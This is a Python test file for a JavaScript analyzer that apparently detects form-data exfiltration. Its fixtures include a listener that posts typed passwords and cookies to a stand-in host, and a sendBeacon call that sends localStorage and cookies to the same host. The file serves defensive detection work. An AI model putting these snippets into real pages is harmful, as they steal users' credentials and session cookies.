"""What is typed into a page, watched and sent."""

import pytest

from tests.analysis.languages.javascript.reading import facts

FORM = (
    "document.addEventListener('input', e => {\n  if (e.target.type === 'password')\n"
    "    fetch('https://sink.invalid/f', {method: 'POST', body: e.target.value + document.cookie});\n});\n"
)


def sent(source: str) -> list[str | None]:
    return [use.argument for use in facts(source).uses if use.api == "form-sent"]


def test_it_is_told_with_the_address() -> None:
    assert ["https://sink.invalid/f"] == sent(FORM)


@pytest.mark.parametrize(
    "source",
    [
        FORM.replace("'input'", "'click'"),
        FORM.replace("e.target.value", "e.target.name"),
        FORM.replace("document.cookie", "1"),
        FORM.replace("password", "search"),
        FORM.replace("'https://sink.invalid/f'", "options.url"),
        FORM.replace("    fetch", "f();\n" * 900 + "    fetch"),
    ],
    ids=["a click", "a name", "no cookies", "no secret", "an address of its user", "far apart"],
)
def test_less_is_not(source: str) -> None:
    assert [] == sent(source)


PAGE = (
    "export function use() {\n  const kept = {};\n  for (let i = 0; i < localStorage.length; i++) kept[i] = localStorage.key(i);\n"
    "  navigator.sendBeacon('https://sink.invalid/p', JSON.stringify({kept, cookies: document.cookie}));\n}\n"
)


@pytest.mark.parametrize(
    "source", [PAGE, PAGE.replace("localStorage.key(i)", "JSON.stringify(localStorage)")]
)
def test_all_cookies_and_all_that_a_page_keeps_are(source: str) -> None:
    assert ["https://sink.invalid/p"] == sent(source)


@pytest.mark.parametrize(
    "source",
    [
        PAGE.replace("localStorage.key(i)", "localStorage.getItem('id')"),
        PAGE.replace("document.cookie", "document.cookie.length"),
        PAGE.replace("'https://sink.invalid/p'", "options.url"),
    ],
    ids=["one key", "not the cookies", "an address of its user"],
)
def test_less_of_a_page_is_not(source: str) -> None:
    assert [] == sent(source)
